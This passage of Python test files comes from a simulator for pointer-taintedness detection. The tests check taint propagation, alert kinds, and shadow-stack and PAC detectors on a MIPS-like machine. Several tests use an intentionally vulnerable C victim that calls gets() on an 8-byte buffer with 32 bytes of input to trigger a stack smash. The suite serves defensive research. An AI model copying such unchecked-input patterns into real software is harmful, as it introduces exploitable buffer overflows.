        assert table.union(0, a) == a
        assert table.union(a, a) == a

    def test_union_is_interned_and_symmetric(self):
        table = LabelTable()
        a = table.singleton(table.new_label(source_kind="stdin"))
        b = table.singleton(table.new_label(source_kind="net"))
        ab = table.union(a, b)
        assert table.union(b, a) == ab
        assert table.union(ab, a) == ab      # absorption
        assert {l.source_kind for l in table.members(ab)} == {
            "stdin", "net",
        }

    def test_union_memoized_no_new_sets_on_repeat(self):
        table = LabelTable()
        a = table.singleton(table.new_label(source_kind="stdin"))
        b = table.singleton(table.new_label(source_kind="net"))
        table.union(a, b)
        before = table.interned_sets
        for _ in range(10):
            table.union(a, b)
            table.union(b, a)
        assert table.interned_sets == before

    def test_counters(self):
        table = LabelTable()
        assert table.allocated_labels == 0
        a = table.singleton(table.new_label(source_kind="stdin"))
        b = table.singleton(table.new_label(source_kind="net"))
        table.union(a, b)
        assert table.allocated_labels == 2
        assert table.interned_sets == 4  # empty, {a}, {b}, {a,b}

    def test_snapshot_restore_roundtrip(self):
        table = LabelTable()
        a = table.singleton(table.new_label(source_kind="stdin"))
        snap = table.snapshot()
        b = table.singleton(table.new_label(source_kind="net"))
        table.union(a, b)
        table.restore(snap)
        assert table.allocated_labels == 1
        assert table.interned_sets == 2
        # Allocation after restore reuses the freed id space consistently.
        c = table.singleton(table.new_label(source_kind="env"))
        assert table.members(c)[0].source_kind == "env"


class TestTaintPlane:
    def test_bit_mode_has_no_flow(self):
        plane = TaintPlane(MODE_BIT)
        assert plane.table is None
        assert plane.flow is None
        assert not plane.label_mode
        assert plane.provenance(3) == ()

    def test_label_mode_has_flow(self):
        plane = TaintPlane(MODE_LABEL)
        assert plane.flow is plane
        assert plane.label_mode

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError):
            TaintPlane("quantum")

    def test_plane_shares_storage_with_memory_and_registers(self):
        plane = TaintPlane(MODE_BIT)
        memory = TaintedMemory(plane=plane)
        regs = RegisterFile(plane=plane)
        assert memory._taint_pages is plane.mem_taint
        assert regs.taints is plane.reg_taints

    def test_label_span_and_span_sid(self):
        plane = TaintPlane(MODE_LABEL)
        sid = plane.table.singleton(
            plane.table.new_label(source_kind="stdin")
        )
        plane.label_span(0x1000, 4, sid)
        # Gate mask selects which bytes count.
        assert plane.span_sid(0x1000, 4, 0b1111) == sid
        assert plane.span_sid(0x1000, 4, 0b0000) == 0
        assert plane.provenance(sid)[0].source_kind == "stdin"

    def test_snapshot_restore_mode_mismatch_rejected(self):
        bit = TaintPlane(MODE_BIT)
        label = TaintPlane(MODE_LABEL)
        with pytest.raises(ValueError):
            label.restore(bit.snapshot())

    def test_label_state_roundtrips_through_snapshot(self):
        plane = TaintPlane(MODE_LABEL)
        sid = plane.table.singleton(
            plane.table.new_label(source_kind="net", syscall="recv", fd=4)
        )
        plane.label_span(0x2000, 2, sid)
        plane.reg_labels[5] = sid
        snap = plane.snapshot()
        plane.mem_labels.clear()
        plane.reg_labels[5] = 0
        plane.table.new_label(source_kind="env")
        plane.restore(snap)
        assert plane.mem_labels[0x2000] == sid
        assert plane.reg_labels[5] == sid
        assert plane.table.allocated_labels == 1


class TestCopyInLabels:
    def test_run_minic_label_mode_records_read_provenance(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
            taint_labels=True,
        )
        assert result.detected
        provenance = result.alert.provenance
        assert provenance
        assert all(l.syscall == "read" for l in provenance)
        assert all(l.source_kind == "stdin" for l in provenance)
        # The overwriting bytes come from the attack input stream.
        for label in provenance:
            start, end = label.offset_range
            assert 0 <= start < end <= 32

    def test_bit_mode_records_no_provenance(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
        )
        assert result.detected
        assert result.alert.provenance == ()

    def test_per_fd_offsets_advance_across_reads(self):
        result = run_minic(
            "char g[64];\n"
            "int main(void) {\n"
            "    read(0, g, 8);\n"
            "    read(0, g + 8, 8);\n"
            "    return 0;\n"
            "}\n",
            PointerTaintPolicy(),
            stdin=b"ABCDEFGHIJKLMNOP",
            taint_labels=True,
        )
        table = result.sim.plane.table
        ranges = sorted(
            l.offset_range for l in table.labels if l.syscall == "read"
        )
        assert (0, 8) in ranges
        assert (8, 16) in ranges

    def test_argv_strings_get_labels(self):
        result = run_minic(
            "int main(int argc, char **argv) { return argc; }",
            PointerTaintPolicy(),
            argv=["prog", "hello"],
            taint_labels=True,
        )
        table = result.sim.plane.table
        argv_labels = [l for l in table.labels if l.source_kind == "argv"]
        assert len(argv_labels) == 2
        # argv[1] is "hello" plus its NUL.
        assert argv_labels[1].fd == 1
        assert argv_labels[1].offset_range == (0, 6)


class TestSwifiFlips:
    @pytest.mark.parametrize("mode", [MODE_BIT, MODE_LABEL])
    def test_mem_taint_flip_roundtrip(self, mode):
        result = run_minic(
            "int main(void) { return 0; }",
            taint_labels=(mode == MODE_LABEL),
        )
        machine = result.sim
        addr = next(iter(machine.memory.page_addresses()))
        detail = apply_state_fault(FaultSpec("taint-mem", addr), machine)
        assert "0 -> 1" in detail
        _, taint = machine.mem_read(addr, 1)
        assert taint == 1
        if mode == MODE_LABEL:
            sid = machine.plane.mem_labels[addr]
            labels = machine.plane.provenance(sid)
            assert labels[0].source_kind == "fault-injection"
        # Flip back: taint and label both cleared.
        detail = apply_state_fault(FaultSpec("taint-mem", addr), machine)
        assert "1 -> 0" in detail
        if mode == MODE_LABEL:
            assert addr not in machine.plane.mem_labels

    @pytest.mark.parametrize("mode", [MODE_BIT, MODE_LABEL])
    def test_reg_taint_flip_roundtrip(self, mode):
        result = run_minic(
            "int main(void) { return 0; }",
            taint_labels=(mode == MODE_LABEL),
        )
        machine = result.sim
        apply_state_fault(FaultSpec("taint-reg", 9, 0xF), machine)
        assert machine.regs.taints[9] == 0xF
        if mode == MODE_LABEL:
            sid = machine.plane.reg_labels[9]
            assert (
                machine.plane.provenance(sid)[0].source_kind
                == "fault-injection"
            )
        apply_state_fault(FaultSpec("taint-reg", 9, 0xF), machine)
        assert machine.regs.taints[9] == 0
        if mode == MODE_LABEL:
            assert machine.plane.reg_labels[9] == 0


class TestMachineSnapshotWithLabels:
    def test_label_plane_roundtrips_through_machine_snapshot(self):
        result = run_minic(
            "char g[16];\n"
            "int main(void) { read(0, g, 8); return 0; }",
            PointerTaintPolicy(),
            stdin=b"ABCDEFGH",
            taint_labels=True,
        )
        sim = result.sim
        address = sim.executable.address_of("_g_g")
        snap = sim.snapshot()
        before_sid = sim.plane.mem_labels[address]
        # Perturb: clear taint and labels, then roll back.
        sim.memory.set_taint(address, 8, False)
        sim.plane.mem_labels.clear()
        sim.restore(snap)
        assert sim.plane.mem_labels[address] == before_sid
        assert sim.memory.read_taint(address, 8).mask == 0xFF
        assert sim.plane.table is not None
