"""Taint tracking on the machine: Table 1 rules + section 4.3 detection.

These tests exercise the rules through *executed instructions* (not the
pure functions), including the syscall taint-initialization boundary.
"""

import pytest

from repro.core.detector import SecurityException
from repro.core.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy

from tests.helpers import run_asm

#: Preamble: read 8 external bytes into ``buf`` and load the first word
#: (tainted) into $t0 and a clean value into $t1.
READ_PREAMBLE = """
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 8
    syscall
    la $t9, buf
    lw $t0, 0($t9)      # tainted word
    li $t1, 0x01010101  # clean word
"""

DATA = "buf: .space 16\nout: .space 16"


def run_taint(body, stdin=b"abcdefgh", policy=None, **kwargs):
    source = (
        ".text\n_start:\n" + READ_PREAMBLE + body +
        "\n    li $v0, 1\n    li $a0, 0\n    syscall\n.data\n" + DATA
    )
    return run_asm(source, stdin=stdin, policy=policy, **kwargs)


class TestTaintInitialization:
    def test_read_taints_buffer(self):
        sim, _ = run_taint("nop")
        buf = sim.executable.address_of("buf")
        assert sim.memory.count_tainted(buf, 8) == 8
        assert sim.memory.count_tainted(buf + 8, 8) == 0

    def test_load_carries_taint_to_register(self):
        sim, _ = run_taint("nop")
        assert sim.regs.taint(8) == 0xF   # $t0
        assert sim.regs.taint(9) == 0     # $t1

    def test_store_carries_taint_to_memory(self):
        sim, _ = run_taint("la $t2, out\nsw $t0, 0($t2)\nsb $t1, 4($t2)")
        out = sim.executable.address_of("out")
        assert sim.memory.count_tainted(out, 4) == 4
        assert sim.memory.count_tainted(out + 4, 1) == 0

    def test_input_byte_statistics(self):
        sim, _ = run_taint("nop")
        # 8 bytes read from stdin + the default argv[0] "prog\0" (5 bytes):
        # command-line arguments are tainted at process setup too.
        assert sim.stats.input_bytes_tainted == 8 + 5


class TestDefaultPropagation:
    def test_add_taints_result(self):
        sim, _ = run_taint("add $s0, $t0, $t1\nadd $s1, $t1, $t1")
        assert sim.regs.taint(16) == 0xF
        assert sim.regs.taint(17) == 0

    def test_partial_byte_taint_via_byte_load(self):
        sim, _ = run_taint("la $t2, out\nsb $t1, 0($t2)\n"  # clean byte
                           "lbu $s0, 0($t2)")
        assert sim.regs.taint(16) == 0

    def test_lbu_taints_only_low_byte(self):
        sim, _ = run_taint("lbu $s0, 0($t9)")
        assert sim.regs.taint(16) == 0b0001

    def test_lb_sign_extension_taints_whole_word(self):
        sim, _ = run_taint("lb $s0, 0($t9)")
        assert sim.regs.taint(16) == 0xF

    def test_addi_preserves_source_taint(self):
        sim, _ = run_taint("addiu $s0, $t0, 4")
        assert sim.regs.taint(16) == 0xF

    def test_mult_collapses_taint(self):
        sim, _ = run_taint("mult $t0, $t1\nmflo $s0\nmfhi $s1")
        assert sim.regs.taint(16) == 0xF
        assert sim.regs.taint(17) == 0xF

    def test_div_collapses_taint(self):
        sim, _ = run_taint("li $t3, 3\ndiv $t0, $t3\nmflo $s0")
        assert sim.regs.taint(16) == 0xF


class TestShiftRule:
    def test_sll_taint_spreads_upward(self):
        sim, _ = run_taint("lbu $s0, 0($t9)\nsll $s1, $s0, 4")
        assert sim.regs.taint(16) == 0b0001
        assert sim.regs.taint(17) == 0b0011

    def test_srl_taint_spreads_downward(self):
        # Build a word tainted only in byte 3.
        sim, _ = run_taint(
            "la $t2, out\nsb $t0, 3($t2)\nlw $s0, 0($t2)\nsrl $s1, $s0, 4"
        )
        assert sim.regs.taint(16) == 0b1000
        assert sim.regs.taint(17) == 0b1100

    def test_tainted_shift_amount_taints_all(self):
        sim, _ = run_taint("sllv $s0, $t1, $t0")
        assert sim.regs.taint(16) == 0xF


class TestAndXorIdioms:
    def test_and_with_clean_zero_untaints(self):
        sim, _ = run_taint("and $s0, $t0, $0")
        assert sim.regs.taint(16) == 0

    def test_andi_clears_masked_bytes(self):
        sim, _ = run_taint("andi $s0, $t0, 0x00FF")
        assert sim.regs.taint(16) == 0b0001

    def test_and_with_clean_nonzero_keeps_taint(self):
        sim, _ = run_taint("and $s0, $t0, $t1")
        assert sim.regs.taint(16) == 0xF

    def test_xor_same_register_idiom_untaints(self):
        sim, _ = run_taint("xor $s0, $t0, $t0")
        assert sim.regs.taint(16) == 0
        assert sim.regs.value(16) == 0

    def test_xor_different_registers_taints(self):
        sim, _ = run_taint("xor $s0, $t0, $t1")
        assert sim.regs.taint(16) == 0xF

    def test_xor_idiom_can_be_disabled(self):
        policy = PointerTaintPolicy(untaint_xor_idiom=False)
        sim, _ = run_taint("xor $s0, $t0, $t0", policy=policy)
        assert sim.regs.taint(16) == 0xF

    def test_and_rule_can_be_disabled(self):
        policy = PointerTaintPolicy(untaint_and_zero=False)
        sim, _ = run_taint("and $s0, $t0, $0", policy=policy)
        assert sim.regs.taint(16) == 0xF


class TestCompareRule:
    def test_slt_untaints_both_operands(self):
        sim, _ = run_taint("lw $t3, 4($t9)\nslt $s0, $t0, $t3")
        assert sim.regs.taint(8) == 0
        assert sim.regs.taint(11) == 0
        assert sim.regs.taint(16) == 0

    def test_slti_untaints_source(self):
        sim, _ = run_taint("slti $s0, $t0, 100")
        assert sim.regs.taint(8) == 0

    def test_branch_untaints_compared_registers(self):
        sim, _ = run_taint("beq $t0, $t1, same\nsame: nop")
        assert sim.regs.taint(8) == 0
        assert sim.regs.taint(9) == 0

    def test_single_register_branch_untaints(self):
        sim, _ = run_taint("bgtz $t0, pos\npos: nop")
        assert sim.regs.taint(8) == 0

    def test_compare_untaint_is_register_local(self):
        """Validating a register copy does not untaint the memory bytes."""
        sim, _ = run_taint("slt $s0, $t0, $t1")
        buf = sim.executable.address_of("buf")
        assert sim.memory.count_tainted(buf, 8) == 8

    def test_compare_rule_can_be_disabled(self):
        policy = PointerTaintPolicy(untaint_on_compare=False)
        sim, _ = run_taint("slt $s0, $t0, $t1", policy=policy)
        assert sim.regs.taint(8) == 0xF


class TestDetectionPoints:
    def test_tainted_load_address_alerts(self):
        with pytest.raises(SecurityException) as info:
            run_taint("lw $s0, 0($t0)")
        assert info.value.alert.kind == "load"
        assert info.value.alert.pointer_value == 0x64636261  # "abcd"

    def test_tainted_store_address_alerts(self):
        with pytest.raises(SecurityException) as info:
            run_taint("sw $t1, 0($t0)")
        assert info.value.alert.kind == "store"

    def test_tainted_jr_alerts(self):
        with pytest.raises(SecurityException) as info:
            run_taint("jr $t0")
        assert info.value.alert.kind == "jump"

    def test_tainted_jalr_alerts(self):
        with pytest.raises(SecurityException) as info:
            run_taint("jalr $t0")
        assert info.value.alert.kind == "jump"

    def test_single_tainted_byte_in_address_alerts(self):
        """The OR gate: one tainted byte of the address word suffices."""
        with pytest.raises(SecurityException):
            run_taint("lbu $s0, 0($t9)\n"      # taint mask 0b0001
                      "la $s1, out\n"
                      "addu $s2, $s1, $s0\n"   # address with 1 tainted byte
                      "lw $s3, 0($s2)")

    def test_clean_pointer_to_tainted_data_is_fine(self):
        """Loading tainted *data* through a clean pointer never alerts."""
        sim, status = run_taint("lw $s0, 0($t9)\nlw $s1, 4($t9)")
        assert status == 0

    def test_control_data_policy_misses_data_derefs(self):
        sim, status = run_taint("lw $s0, 0($t0)", policy=ControlDataPolicy())
        assert status == 0
        assert sim.stats.alerts == 0
        assert sim.stats.tainted_dereferences == 1

    def test_control_data_policy_still_catches_jr(self):
        with pytest.raises(SecurityException):
            run_taint("jr $t0", policy=ControlDataPolicy())

    def test_null_policy_counts_but_never_raises(self):
        sim, status = run_taint(
            "lw $s0, 0($t0)\nsw $t1, 0($t0)", policy=NullPolicy()
        )
        assert status == 0
        assert sim.stats.tainted_dereferences == 2

    def test_track_taint_off_means_no_taint_anywhere(self):
        policy = NullPolicy(track_taint=False)
        sim, _ = run_taint("add $s0, $t0, $t1", policy=policy)
        assert sim.regs.taint(16) == 0
        assert sim.stats.tainted_results == 0


class TestTaintThroughCaches:
    def test_detection_works_with_cache_hierarchy(self):
        with pytest.raises(SecurityException):
            run_taint("lw $s0, 0($t0)", use_caches=True)

    def test_taint_roundtrip_through_caches(self):
        sim, _ = run_taint(
            "la $t2, out\nsw $t0, 0($t2)\nlw $s0, 0($t2)", use_caches=True
        )
        assert sim.regs.taint(16) == 0xF

    def test_dereference_check_statistics(self):
        sim, _ = run_taint("lw $s0, 0($t9)")
        assert sim.stats.dereference_checks > 0
