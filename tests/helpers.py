"""Shared test helpers: assemble-and-run utilities."""

from __future__ import annotations

from typing import Optional, Tuple

from repro.builder import build_machine
from repro.defenses.policy import DetectionPolicy
from repro.cpu.simulator import Simulator
from repro.isa.assembler import assemble


def run_asm(
    source: str,
    stdin: bytes = b"",
    policy: Optional[DetectionPolicy] = None,
    argv=None,
    max_instructions: int = 1_000_000,
    use_caches: bool = False,
) -> Tuple[Simulator, int]:
    """Assemble a raw program (must define ``_start``), run it to exit.

    The program should terminate via ``li $v0,1; syscall`` (SYS_EXIT with
    the status in $a0); ``run_asm`` returns ``(simulator, exit_status)``.
    """
    sim, _kernel = build_machine(
        assemble(source),
        policy,
        stdin=stdin,
        argv=argv,
        use_caches=use_caches,
    )
    status = sim.run(max_instructions=max_instructions)
    return sim, status


def asm_main(body: str, data: str = "") -> str:
    """Wrap an instruction body into a runnable program that exits with
    the value left in ``$v1`` (so tests read results from a register)."""
    program = [".text", "_start:"]
    program.append(body)
    program.append("    move $a0,$v1")
    program.append("    li $v0,1")
    program.append("    syscall")
    if data:
        program.append(".data")
        program.append(data)
    return "\n".join(program)


