"""The defenses package: Detector protocol, registry, comparators, shims."""

import pytest

import repro
from repro.attacks.replay import run_minic
from repro.defenses import (
    DEFENSES,
    Alert,
    Detector,
    DetectorRegistry,
    KIND_ANNOTATION,
    KIND_JUMP,
    KIND_LOAD,
    KIND_PAC,
    KIND_RETURN,
    KIND_STORE,
    PacDetector,
    SecurityException,
    ShadowStackDetector,
    TaintednessDefense,
    TaintednessDetector,
    resolve_defense,
)
from repro.defenses.pac import pac_sites
from repro.defenses.policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)
from repro.libc.build import build_program

SMASH_VICTIM = """
int main(void) {
    char buf[8];
    gets(buf);
    return 0;
}
"""
SMASH_INPUT = b"a" * 32

BENIGN_CALLS = """
int leaf(int x) { return x + 1; }
int mid(int x) { return leaf(x) + leaf(x + 1); }
int main(void) {
    int i;
    int acc;
    acc = 0;
    for (i = 0; i < 10; i = i + 1) {
        acc = acc + mid(i);
    }
    return 0;
}
"""


def make_alert(**overrides):
    base = dict(
        pc=0x400100,
        kind=KIND_STORE,
        disassembly="sw $21,0($3)",
        pointer_value=0x1002BC20,
        taint_mask=0xF,
    )
    base.update(overrides)
    return Alert(**base)


class TestCompatShims:
    """Satellite: core.detector / core.policy stay importable, cycle-free."""

    def test_core_detector_reexports_same_objects(self):
        from repro.core import detector as shim

        assert shim.Alert is Alert
        assert shim.SecurityException is SecurityException
        assert shim.TaintednessDetector is TaintednessDetector
        assert shim.DetectionPolicy is DetectionPolicy
        assert shim.KIND_LOAD == KIND_LOAD
        assert shim.KIND_JUMP == KIND_JUMP

    def test_core_policy_reexports_same_objects(self):
        from repro.core import policy as shim
        from repro.defenses import policy as real

        assert shim.DetectionPolicy is real.DetectionPolicy
        assert shim.PointerTaintPolicy is real.PointerTaintPolicy
        assert shim.ControlDataPolicy is real.ControlDataPolicy
        assert shim.NullPolicy is real.NullPolicy

    def test_no_tail_import_in_shim(self):
        # The old module ended with an intentional circular tail import;
        # the shim must import everything at the top of the file.
        import inspect

        from repro.core import detector as shim

        source = inspect.getsource(shim)
        lines = [
            line for line in source.splitlines()
            if line.startswith(("from ", "import "))
        ]
        assert lines, "shim should be import-only"
        assert "noqa" not in source

    def test_top_level_package_exports(self):
        assert repro.TaintednessDetector is TaintednessDetector
        assert repro.ShadowStackDetector is ShadowStackDetector
        assert repro.PacDetector is PacDetector
        assert repro.DEFENSES is DEFENSES


class TestTaintednessDetectorUnit:
    """Satellite: direct unit tests for the re-homed detector."""

    def test_reset_clears_alerts(self):
        detector = TaintednessDetector(PointerTaintPolicy())
        alert = detector.check(
            kind=KIND_STORE,
            pc=0x400100,
            disassembly="sw $21,0($3)",
            pointer_value=0x1002BC20,
            taint_mask=0xF,
        )
        assert alert is not None
        assert detector.alerts == [alert]
        detector.reset()
        assert detector.alerts == []

    def test_clean_pointer_not_flagged(self):
        detector = TaintednessDetector(PointerTaintPolicy())
        assert (
            detector.check(
                kind=KIND_LOAD,
                pc=0x400100,
                disassembly="lw $2,0($3)",
                pointer_value=0x10000000,
                taint_mask=0x0,
            )
            is None
        )
        assert detector.alerts == []

    def test_unchecked_kind_not_flagged(self):
        detector = TaintednessDetector(ControlDataPolicy())
        assert (
            detector.check(
                kind=KIND_STORE,
                pc=0x400100,
                disassembly="sw $21,0($3)",
                pointer_value=0x1002BC20,
                taint_mask=0xF,
            )
            is None
        )

    def test_describe_provenance_empty_in_bit_mode(self):
        assert make_alert().describe_provenance() == []

    def test_describe_provenance_populated_in_label_mode(self):
        result = run_minic(
            SMASH_VICTIM,
            PointerTaintPolicy(),
            stdin=SMASH_INPUT,
            taint_labels=True,
        )
        assert result.detected
        lines = result.alert.describe_provenance()
        assert lines
        assert all(isinstance(line, str) and line for line in lines)

    def test_policy_checks_kind_coverage(self):
        paper = PointerTaintPolicy()
        for kind in (KIND_LOAD, KIND_STORE, KIND_JUMP):
            assert paper.checks(kind)
        # Non-dereference kinds are not policy-checked: annotation hits
        # and comparator kinds bypass DetectionPolicy entirely.
        for kind in (KIND_ANNOTATION, KIND_RETURN, KIND_PAC):
            assert not paper.checks(kind)
        control = ControlDataPolicy()
        assert control.checks(KIND_JUMP)
        assert not control.checks(KIND_LOAD)
        assert not control.checks(KIND_STORE)
        null = NullPolicy()
        for kind in (KIND_LOAD, KIND_STORE, KIND_JUMP, KIND_RETURN, KIND_PAC):
            assert not null.checks(kind)


class TestDetectorBase:
    def test_attach_twice_raises(self):
        detector = ShadowStackDetector()
        result = run_minic(BENIGN_CALLS, None, defense=detector)
        assert result.outcome == "exit"
        with pytest.raises(RuntimeError):
            detector.attach(result.sim)

    def test_detach_reattach_cycle(self):
        detector = ShadowStackDetector()
        result = run_minic(BENIGN_CALLS, None, defense=detector)
        result.sim.detach_defense(detector)
        assert result.sim.defenses == []
        # Detached detector can serve a fresh machine.
        second = run_minic(SMASH_VICTIM, None, defense=detector,
                           stdin=SMASH_INPUT)
        assert second.detected

    def test_summary_shape(self):
        detector = ShadowStackDetector()
        result = run_minic(BENIGN_CALLS, None, defense=detector)
        summary = detector.summary()
        assert summary["alerts"] == 0
        assert summary["checks"] > 0
        assert result.sim.defense_summaries() == {"shadow-stack": summary}

    def test_default_policies(self):
        assert TaintednessDefense().default_policy().name == (
            "pointer-taintedness"
        )
        assert ShadowStackDetector().default_policy().name == "unprotected"
        assert PacDetector().default_policy().name == "unprotected"

    def test_base_reset(self):
        detector = Detector()
        detector.alerts.append(make_alert())
        detector.checks = 5
        detector.reset()
        assert detector.alerts == []
        assert detector.checks == 0


class TestRegistry:
    def test_builtins_registered(self):
        assert DEFENSES.names() == ["taintedness", "shadow-stack", "pac"]
        for name in DEFENSES.names():
            assert name in DEFENSES
            detector = DEFENSES.create(name)
            assert detector.name == name

    def test_create_returns_fresh_instances(self):
        assert DEFENSES.create("pac") is not DEFENSES.create("pac")

    def test_unknown_name_raises_with_known_list(self):
        with pytest.raises(KeyError, match="shadow-stack"):
            DEFENSES.create("nonsense")

    def test_duplicate_register_raises_unless_replace(self):
        registry = DetectorRegistry()
        registry.register("x", ShadowStackDetector)
        with pytest.raises(ValueError):
            registry.register("x", PacDetector)
        registry.register("x", PacDetector, replace=True)
        assert isinstance(registry.create("x"), PacDetector)

    def test_resolve_spec_forms(self):
        assert resolve_defense(None) is None
        assert isinstance(resolve_defense("shadow-stack"), ShadowStackDetector)
        instance = PacDetector()
        assert resolve_defense(instance) is instance


class TestShadowStackDetector:
    def test_benign_run_clean_and_balanced(self):
        detector = ShadowStackDetector()
        result = run_minic(BENIGN_CALLS, None, defense=detector)
        assert result.outcome == "exit"
        assert detector.alerts == []
        assert detector.checks > 0

    def test_detects_return_address_smash(self):
        detector = ShadowStackDetector()
        result = run_minic(
            SMASH_VICTIM, None, defense=detector, stdin=SMASH_INPUT
        )
        assert result.detected
        assert result.alert.kind == KIND_RETURN
        assert result.alert.pointer_value == 0x61616161
        assert result.alert.taint_mask == 0
        assert "shadow stack expected" in result.alert.detail

    def test_reset_clears_stack(self):
        detector = ShadowStackDetector()
        detector._stack.extend([1, 2, 3])
        detector.checks = 9
        detector.reset()
        assert detector.depth == 0
        assert detector.checks == 0


class TestPacDetector:
    def test_codegen_emits_sign_and_auth_sites(self):
        exe = build_program(BENIGN_CALLS)
        sites = pac_sites(exe)
        kinds = set(sites.values())
        assert kinds == {"sign", "auth"}
        # Sites are dot-labels: invisible to symbol_at-based forensics.
        assert all(
            name.startswith(".L")
            for name in exe.symbols
            if "pac_sign_" in name or "pac_auth_" in name
        )

    def test_mac_keyed_and_deterministic(self):
        a, b = PacDetector(), PacDetector()
        assert a._mac(0x7FFF0000, 0x400124) == b._mac(0x7FFF0000, 0x400124)
        assert a._mac(0x7FFF0000, 0x400124) != a._mac(0x7FFF0000, 0x400128)
        other_key = PacDetector(key=0x12345678)
        assert a._mac(0x7FFF0000, 0x400124) != other_key._mac(
            0x7FFF0000, 0x400124
        )

    def test_benign_run_clean(self):
        detector = PacDetector()
        result = run_minic(BENIGN_CALLS, None, defense=detector)
        assert result.outcome == "exit"
        assert detector.alerts == []
        assert detector.checks > 0
        assert detector.signed_live <= 1  # at most crt0's frame left open

    def test_detects_return_address_smash(self):
        detector = PacDetector()
        result = run_minic(
            SMASH_VICTIM, None, defense=detector, stdin=SMASH_INPUT
        )
        assert result.detected
        assert result.alert.kind == KIND_PAC
        assert result.alert.pointer_value == 0x61616161
        assert "authentication failed" in result.alert.detail

    def test_reset_clears_macs(self):
        detector = PacDetector()
        detector._macs[0x7FFF0000] = 1
        detector.reset()
        assert detector.signed_live == 0


class TestTaintednessDefenseAdapter:
    def test_alerts_delegate_to_machine_detector(self):
        defense = TaintednessDefense()
        result = run_minic(
            SMASH_VICTIM, None, defense=defense, stdin=SMASH_INPUT
        )
        assert result.detected
        assert defense.alerts is result.sim.detector.alerts
        assert len(defense.alerts) == 1
        assert defense.checks == result.sim.stats.dereference_checks
        defense.reset()
        assert result.sim.detector.alerts == []

    def test_runs_under_paper_policy_by_default(self):
        result = run_minic(SMASH_VICTIM, None, defense="taintedness",
                           stdin=SMASH_INPUT)
        assert result.sim.policy.name == "pointer-taintedness"
        assert result.detected
        # Alert line identical to a plain paper-policy run: the adapter
        # must not perturb the default detection path.
        plain = run_minic(SMASH_VICTIM, PointerTaintPolicy(),
                          stdin=SMASH_INPUT)
        assert str(result.alert) == str(plain.alert)


class TestComparatorEngineParity:
    def test_shadow_stack_detects_on_pipeline_engine(self):
        result = run_minic(
            SMASH_VICTIM, None, defense="shadow-stack",
            stdin=SMASH_INPUT, use_pipeline=True,
        )
        assert result.detected
        assert result.alert.kind == KIND_RETURN

    def test_pac_detects_on_pipeline_engine(self):
        result = run_minic(
            SMASH_VICTIM, None, defense="pac",
            stdin=SMASH_INPUT, use_pipeline=True,
        )
        assert result.detected
        assert result.alert.kind == KIND_PAC
