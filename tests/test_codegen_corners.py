"""MiniC code-generation corner cases."""

import pytest

from repro.attacks.replay import run_minic


def exit_of(body, declarations="", stdin=b""):
    result = run_minic(
        declarations + "\nint main(void) {\n" + body + "\n}\n", stdin=stdin
    )
    assert result.outcome == "exit", result.describe()
    return result.exit_status


def stdout_of(body, declarations="", stdin=b""):
    result = run_minic(
        declarations + "\nint main(void) {\n" + body + "\n}\n", stdin=stdin
    )
    assert result.outcome == "exit", result.describe()
    return result.stdout


class TestConditions:
    def test_assignment_value_as_condition(self):
        assert exit_of(
            "int a; int n; n = 0; a = 3;"
            "while (a = a - 1) { n++; }"
            "return n;"
        ) == 2

    def test_or_inside_if_with_calls(self):
        assert exit_of(
            "if (zero() || one()) { return 7; } return 8;",
            declarations=(
                "int zero(void) { return 0; }\n"
                "int one(void) { return 1; }\n"
            ),
        ) == 7

    def test_nested_and_or(self):
        assert exit_of(
            "int a; int b; int c; a = 1; b = 0; c = 1;"
            "if ((a && b) || (a && c)) { return 1; } return 0;"
        ) == 1

    def test_not_of_comparison(self):
        assert exit_of("int x; x = 5; if (!(x < 3)) { return 1; } return 0;") == 1

    def test_double_negation(self):
        assert exit_of("int x; x = 7; return !!x;") == 1

    def test_comparison_as_value_in_arithmetic(self):
        assert exit_of("int x; x = 4; return (x > 2) * 10 + (x < 2);") == 10

    def test_pointer_null_check(self):
        assert exit_of(
            'char *p; p = strchr("abc", \'q\');'
            "if (p) { return 1; } return 2;"
        ) == 2

    def test_unsigned_pointer_comparison(self):
        # Stack addresses are > 0x7fff0000; a signed compare would go wrong.
        assert exit_of(
            "int a[2]; int *p; int *q; p = &a[0]; q = &a[1];"
            "if (p < q) { return 1; } return 0;"
        ) == 1

    def test_condition_with_side_effect_runs_once(self):
        assert exit_of(
            "counter = 0;"
            "if (bump() > 100) { return 99; }"
            "return counter;",
            declarations=(
                "int counter;\n"
                "int bump(void) { counter++; return counter; }\n"
            ),
        ) == 1


class TestExpressions:
    def test_nested_ternary(self):
        assert exit_of(
            "int x; x = 2; return x == 1 ? 10 : x == 2 ? 20 : 30;"
        ) == 20

    def test_ternary_with_calls(self):
        assert exit_of(
            "return pick(1) ? pick(40) : pick(50);",
            declarations="int pick(int v) { return v; }",
        ) == 40

    def test_deeply_nested_arithmetic(self):
        expression = "1" + " + 1" * 40
        assert exit_of(f"return {expression};") == 41

    def test_deep_call_nesting(self):
        assert exit_of(
            "return add1(add1(add1(add1(add1(0)))));",
            declarations="int add1(int x) { return x + 1; }",
        ) == 5

    def test_call_in_index(self):
        assert exit_of(
            "int a[4]; a[2] = 9; return a[two()];",
            declarations="int two(void) { return 2; }",
        ) == 9

    def test_chained_assignment(self):
        assert exit_of("int a; int b; int c; a = b = c = 4; return a + b + c;") == 12

    def test_assignment_through_returned_pointer_pattern(self):
        assert exit_of(
            "int x; int *p; x = 1; p = &x; *p += 5; return x;"
        ) == 6

    def test_string_literal_deduplication(self):
        # Two identical literals reuse one data label (pointer equality).
        assert exit_of('return "same" == "same";') == 1

    def test_char_literal_arithmetic(self):
        assert exit_of("return 'z' - 'a';") == 25

    def test_hex_and_char_escapes_in_strings(self):
        assert stdout_of(
            'printf("%d %d", "\\x41bc"[0], "a\\tb"[1]);'
            "return 0;"
        ) == "65 9"

    def test_negative_modulo_c_semantics(self):
        assert stdout_of('printf("%d %d", -7 % 3, 7 % -3); return 0;') == "-1 1"

    def test_shift_by_variable(self):
        assert exit_of("int n; n = 3; return 1 << n << 1;") == 16

    def test_bitwise_not_identity(self):
        assert exit_of("int x; x = 123; return ~~x;") == 123


class TestGlobalsAndChars:
